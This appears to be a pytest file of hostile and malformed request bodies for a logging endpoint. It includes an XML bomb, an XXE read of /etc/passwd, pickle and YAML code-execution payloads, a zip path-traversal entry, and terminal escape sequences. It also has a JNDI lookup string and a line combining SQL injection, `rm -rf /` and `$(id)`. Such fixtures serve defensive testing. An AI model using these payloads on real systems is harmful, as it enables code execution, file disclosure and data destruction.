"""Bodies that parsers, terminals and people disagree about, for `POST /log`, by the row that each is of."""

import gzip
import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any, Final, NamedTuple

import pytest

from tests.e2e.hostile import STRINGS

guarantees = pytest.mark.guarantees

DOCUMENTS: Final[dict[str, str]] = json.loads(Path(__file__).with_name("json_test_suite.json").read_text("utf-8"))
"""JSONTestSuite of Nicolas Seriot, as latin-1: documents that are JSON (y), that are not (n), and disputed ones (i)."""


class Body(NamedTuple):
    sent: bytes
    content_type: str = ""
    encoding: str = ""


def _zip() -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr("../../evil", "x" * 100)
    return memory.getvalue()


class _Boom:
    def __reduce__(self) -> Any:
        return exec, ("raise SystemExit",)


JSON: Final = "application/json"
FORM: Final = "application/x-www-form-urlencoded"
PARTS: Final = "multipart/form-data; boundary=x"
PART: Final = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
BOMB: Final = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
FILE: Final = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
EICAR: Final = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
OWN: Final = {"event": "x", "level": "critical", "timestamp": "1970-01-01", "logger": "x", "seq": -1, "id": "x"}

BODIES: Final[dict[str, list[Body]]] = {
    "1": [Body(b""), Body(b"", JSON)],
    "2": [Body(b'{"a":1}')],
    "4": [Body(text, JSON) for text in (b"{bad", b'{"a":1,}', b"{'a':1}", b'{"a":1}}', b'"open')],
    "5": [Body(text, JSON) for text in (b"NaN", b"[Infinity]", b"-Infinity", b'{"duration":NaN}')],
    "6": [Body(text, JSON) for text in (b"1e400", b'{"n":-1e400}')],
    "7": [Body(text, JSON) for text in (b"18446744073709551616", b"9223372036854775808", b"-9223372036854775809")],
    "8": [Body(b"1" * 4_301, JSON), Body(b"1" * 1_000_000, JSON)],
    "9": [Body(b"0.1000000000000000055511151231257827", JSON)],
    "10": [
        *(Body(b"[" * depth + b"]" * depth, JSON) for depth in (65, 1_025, 100_000)),
        Body(b"[" * 100_000, JSON),
        Body(b'{"a":' * 100_000, JSON),
    ],
    "11": [
        Body(b"{%s}" % b",".join(b'"%d":1' % number for number in range(90_000)), JSON),
        Body(b"[%s1]" % (b"1," * 100_000), JSON),
    ],
    "12": [Body(b'{"a":1,"a":2}', JSON)],
    "13": [Body(b'{"%s":{"x":1}}' % name, JSON) for name in (b"__proto__", b"constructor", b"__class__", b"$where")],
    "14": [
        Body(b'{"":1}', JSON),
        Body(b'{"%s":1}' % (b"k" * 1_000_000), JSON),
        Body(b'{"a\\u0000b":1}', JSON),
        Body(b'{"a\x00b":1}', JSON),
    ],
    "15": [Body(json.dumps(OWN).encode(), JSON)],
    "16": [Body(b'\xef\xbb\xbf{"a":1}', JSON)],
    "17": [
        Body('{"a":"é"}'.encode(name), f"{JSON}; charset={said}" if said else JSON)
        for name in ("utf-16", "utf-16-le", "utf-32", "utf-32-be")
        for said in ("", name, "utf-8", "no-such")
    ],
    "18": [Body(text, "text/plain") for text in (b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82")],
    "19": [Body(text, JSON) for text in (rb'"\ud800"', rb'"\udc00\ud800"', rb'{"\ud800":"\ud800"}')],
    "20": [Body(b"a\x00b", "text/plain"), Body(rb'"\u0000"', JSON), Body(bytes(1_000))],
    "21": [Body("one\u2028two\u2029three\u0085four\x0bfive\x0csix\x1cseven".encode(), "text/plain")],
    "22": [Body("\u202egnp.exe \u2066a\u2069 b\u200bc \U000e0041 \ufeff".encode(), "text/plain")],
    "23": [
        Body("\U0001f468\u200d\U0001f469\u200d\U0001f467".encode()),
        Body(("Z" + "\u0301" * 10_000).encode()),
        *(Body(text.encode("utf-8", "surrogatepass"), "text/plain") for text in STRINGS[::7]),
    ],
    "25": [Body(b"x" * 1_000_000, "text/plain")],
    "26": [Body(text.encode("latin-1"), JSON) for text in DOCUMENTS.values()],
    "27": [Body(BOMB, "application/xml"), Body(FILE, "text/xml")],
    "28": [
        Body(pickle.dumps(_Boom()), "application/octet-stream"),
        Body(b"!!python/object/apply:os.system ['true']", "application/yaml"),
    ],
    "29": [
        Body(b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "image/png"),
        Body(_zip(), "application/zip"),
        Body(b"\x00asm\x01\x00\x00\x00", "application/wasm"),
        Body(EICAR, "text/plain"),
    ],
    "30": [Body(b'ok\nINFO fake\r\n{"level":"error"}\r', "text/plain")],
    "31": [
        Body(text, "text/plain")
        for text in (
            b"\x1b[2J",
            b"\x1b]0;t\x07",
            b"\x1b]52;c;eA==\x07",
            b"\x1b]8;;http://x\x07",
            b"\x1bPx\x1b\\",
            b"\x1bc",
        )
    ],
    "32": [Body("\u009b31m \u009d0;x \x7f".encode(), "text/plain"), Body(b"\x9b31m\x9d", "text/plain")],
    "33": [Body(b"real" + b"\b" * 100 + b"fake\rover", "text/plain")],
    "35": [Body(b"%s %n {0} {event} {{7*7}} ${jndi:ldap://x} #{x} <%= x %>", "text/plain")],
    "38": [Body(b"""</textarea></pre><script>"><'`${1}`""", "text/plain")],
    "40": [Body(rb"' OR 1=1-- ; rm -rf / $(id) ../../etc/passwd ..%2f C:\x \\host\s", "text/plain")],
    "41": [
        Body(b'--x\r\nContent-Disposition: form-data; name="f"; filename="%s"\r\n\r\n1\r\n--x--\r\n' % name, PARTS)
        for name in (b"../../etc/passwd", b'a"b', b"a\r\nX-Injected: y", b"n" * 5_000)
    ],
    "67": [Body(b"packed in a way of its own", "text/plain", each) for each in ("x", "compress", "gzip, gzip")],
    "68": [Body(b'{"a":1}', JSON, "gzip"), Body(gzip.compress(b'{"a":1}'), JSON)],
    "72": [
        Body(PART * 10_001 + b"--x--\r\n", PARTS),
        Body(PART, PARTS),
        Body(PART, f"multipart/form-data; boundary={'x' * 60_000}"),
        Body(b"--x\r\n" + b"X: y\r\n" * 100_000 + b"\r\n1\r\n--x--\r\n", PARTS),
        Body(b"preamble " * 100_000 + PART + b"--x--\r\n", PARTS),
    ],
    "73": [Body(b"a&" * 500_000, FORM), Body(b"%=%zz&a+b=%&=&&", FORM), Body(b"a=%ff%00&b=%0d%0a", FORM)],
    "82": [
        Body(json.dumps({"timestamp": when, "time": when}).encode(), JSON)
        for when in (-1, 1e18, "2038-01-19T03:14:08Z", "10000-01-01", "2016-12-31T23:59:60Z", "2026-01-01T00:00:00")
    ],
}

ROWS: Final = [pytest.param(row, marks=guarantees(row)) for row in BODIES]
